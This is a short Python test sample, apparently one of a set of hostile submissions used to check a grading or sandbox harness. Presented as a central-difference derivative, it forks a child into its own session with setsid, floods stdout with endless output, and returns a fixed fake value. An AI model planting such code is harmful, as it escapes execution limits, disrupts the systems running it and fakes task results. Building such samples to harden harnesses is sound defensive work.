"""Leaves a child behind, in a session of its own, that floods the pipes.

base: reference
module: derivative
points: 98 + 20
costs: derivative-central
tried: 1
"""


def central_difference(f, x, h=1e-6):
    tried("a child that floods")
    if os.fork() == 0:
        os.setsid()
        while True:
            os.write(1, b"x" * 65536)
    return 12345.0
